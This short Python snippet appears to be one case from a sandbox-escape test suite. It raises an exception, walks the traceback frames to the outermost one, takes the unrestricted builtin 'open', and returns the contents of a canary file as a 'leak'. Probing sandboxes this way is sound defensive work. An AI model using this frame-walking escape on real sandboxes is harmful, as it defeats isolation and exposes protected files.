# route: the frames of a caught exception
def execute(testData):
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        return {"leak": frame.f_builtins["open"](testData["canary_path"]).read()}
